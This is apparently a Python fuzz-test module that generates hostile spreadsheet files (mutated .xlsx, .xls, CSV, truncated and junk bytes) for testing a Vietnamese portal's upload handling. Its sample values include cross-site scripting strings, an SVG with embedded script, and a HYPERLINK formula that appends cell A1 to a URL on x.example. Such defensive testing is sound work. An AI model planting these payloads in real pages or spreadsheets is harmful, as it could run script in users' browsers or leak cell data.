"""Hostile spreadsheets for the fuzz tests: a valid office table, mutated cell by cell, sheet by sheet, or
replaced by bytes that are no spreadsheet at all, written as .xlsx, .xls or CSV.

A table is `[(sheet name, rows of cell values), …]`; `hostile_files(base)` draws (file name, bytes).
"""

import datetime
import io
import re
import zipfile

import openpyxl
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from tests.old_excel import as_xls

VIETNAMESE_LETTERS = frozenset(
    "àáảãạăằắẳẵặâầấẩẫậèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵđ"
    "ÀÁẢÃẠĂẰẮẲẴẶÂẦẤẨẪẬÈÉẺẼẸÊỀẾỂỄỆÌÍỈĨỊÒÓỎÕỌÔỒỐỔỖỘƠỜỚỞỠỢÙÚỦŨỤƯỪỨỬỮỰỲÝỶỸỴĐ"
)
_QUOTED = re.compile(r"“[^”]*”|\"[^\"]*\"")

HOSTILE_NUMBERS = (
    "1e309",
    "-1e309",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "-0",
    "1.234,5",
    "1,234.5",
    "1 234",
    "1 234,5",
    "99999999999999999999",
    "-5",
    "0x10",
    "1_000",
    "½",
    "١٢٣",
    "٫٥",
)
FORMULAS = ("=1/0", '=HYPERLINK("http://x.example/?"&A1,"bấm")', "=A1+", "=SUM(A1:A1048576)", "@SUM(1)", "+1", "-1+2")
TRICKY_TEXT = (
    "\u202eđạt",
    "x\u200b",
    "Đ\u0323",
    "ĐẠT",
    "  ",
    "\t",
    "\r\n",
    "Tổng cộng",
    "Người lập biểu",
    "TC1",
    "Tên xã",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "Mã xã",
    "Năm",
    "Giá trị",
)

cell_values = st.one_of(
    st.none(),
    st.text(max_size=12),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=6),
    st.sampled_from(HOSTILE_NUMBERS + FORMULAS + TRICKY_TEXT),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([1e308, -1e308, 5e-324, -0.0, 0.925, 2024.0, 2024.5]),
    st.booleans(),
    st.dates(min_value=datetime.date(1900, 3, 1), max_value=datetime.date(9999, 12, 31)),
    st.integers(min_value=1, max_value=3000).map(lambda n: "đạt " * n),  # very long text
)


def _set_cell(sheets, index, row, column, value):
    rows = sheets[index % len(sheets)][1]
    row %= len(rows) + 2
    while len(rows) <= row:
        rows.append([])
    while len(rows[row]) <= column:
        rows[row].append(None)
    rows[row][column] = value


@st.composite
def mutated(draw, base):
    """The base table with a few random changes; returns (sheets, merged ranges by sheet index)."""
    sheets = [(name, [list(row) for row in rows]) for name, rows in base]
    merges = []
    for _ in range(draw(st.integers(min_value=0, max_value=4))):
        action = draw(st.sampled_from(["cell", "cell", "cell", "row", "sheet", "merge"]))
        if not sheets:
            sheets.append(("Sheet", []))
        index = draw(st.integers(min_value=0, max_value=len(sheets) - 1))
        rows = sheets[index][1]
        if action == "cell":
            at = (draw(st.integers(0, 12)), draw(st.integers(0, 10)))
            _set_cell(sheets, index, *at, draw(cell_values))
        elif action == "row" and rows:
            row = draw(st.integers(0, len(rows) - 1))
            change = draw(st.sampled_from(["delete", "blank", "repeat", "shorten"]))
            if change == "delete":
                del rows[row]
            elif change == "blank":
                rows.insert(row, [])
            elif change == "repeat":
                rows.insert(row, list(rows[row]))
            else:
                rows[row] = rows[row][: draw(st.integers(0, 3))]
        elif action == "sheet":
            change = draw(st.sampled_from(["rename", "add", "add", "remove"]))
            if change == "rename":
                sheets[index] = (draw(st.text(max_size=10)), rows)
            elif change == "add":
                sheets.insert(draw(st.integers(0, len(sheets))), (draw(st.text(max_size=10)), draw(_extra_rows(rows))))
            else:
                del sheets[index]
        elif action == "merge":
            row, column = draw(st.integers(1, 4)), draw(st.integers(1, 6))
            merges.append((index, row, column, row + draw(st.integers(0, 1)), column + draw(st.integers(0, 2))))
    return sheets, merges


def _extra_rows(rows):
    return st.one_of(
        st.just([]), st.just([list(row) for row in rows]), st.lists(st.lists(cell_values, max_size=4), max_size=3)
    )


def xlsx(sheets, merges=(), *, formulas_as_text=True) -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for index, (name, rows) in enumerate(sheets or [("Sheet", [])]):
        sheet = book.create_sheet(_title(name, book))
        for row in rows:
            sheet.append([_storable(value) for value in row])
        for sheet_index, *bounds in merges:
            if sheet_index == index:
                sheet.merge_cells(start_row=bounds[0], start_column=bounds[1], end_row=bounds[2], end_column=bounds[3])
        if formulas_as_text:
            for cells in sheet.iter_rows():
                for cell in cells:
                    if isinstance(cell.value, str) and cell.value.startswith("="):
                        cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _title(name: str, book) -> str:
    title = re.sub(r"[\[\]:*?/\\']", "_", ILLEGAL_CHARACTERS_RE.sub("", name)).strip()[:31] or "Sheet"
    while title in book.sheetnames:
        title = (title[:28] + "_" + str(len(book.sheetnames)))[:31]
    return title


def _storable(value):
    """What openpyxl can write: text without the control characters XML forbids, at most Excel's 32,767."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)[:32767]
    return value


def as_csv(sheets, encoding: str, delimiter: str) -> bytes:
    rows = sheets[0][1] if sheets else []
    text = "\r\n".join(delimiter.join("" if value is None else str(value) for value in row) for row in rows)
    return text.encode(encoding, errors="replace")


raw_bytes = st.one_of(
    st.binary(max_size=300),
    st.binary(max_size=200).map(lambda data: b"PK\x03\x04" + data),
    st.sampled_from(
        [
            b"%PDF-1.4 not a table",
            b"<html><body><table><tr><td>x</td></tr></table></body></html>",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
            b"\xef\xbb\xbf",
            b"\x00" * 64,
        ]
    ),
)


def _truncated(content: bytes, cut: int) -> bytes:
    return content[: max(1, len(content) * cut // 100)]


def _not_a_workbook_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@st.composite
def hostile_files(draw, base):
    """(file name, content): the base table mutated, in any of the formats offices send, or plain junk."""
    sheets, merges = draw(mutated(base))
    form = draw(st.sampled_from(["xlsx"] * 6 + ["xls", "csv", "truncated", "raw", "zip"]))
    if form == "xlsx":
        return "bang.xlsx", xlsx(sheets, merges, formulas_as_text=draw(st.booleans()))
    if form == "xls":
        return "bang.xls", as_xls(xlsx(sheets, merges))
    if form == "csv":
        encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1258", "utf-16", "latin-1"]))
        return "bang.csv", as_csv(sheets, encoding, draw(st.sampled_from([",", ";", "\t"])))
    if form == "truncated":
        return "bang.xlsx", _truncated(xlsx(sheets, merges), draw(st.integers(1, 99)))
    if form == "zip":
        return "bang.xlsx", _not_a_workbook_zip()
    return draw(st.sampled_from(["bang.xlsx", "bang.xls", "bang.csv", "bang.pdf"])), draw(raw_bytes)


def is_vietnamese(message: str) -> bool:
    """A sentence of the portal in Vietnamese: once the values it quotes are taken out, a letter with a
    Vietnamese diacritic is left (every Vietnamese sentence has one; the English msgids have none)."""
    return any(char in VIETNAMESE_LETTERS for char in _QUOTED.sub("", message))
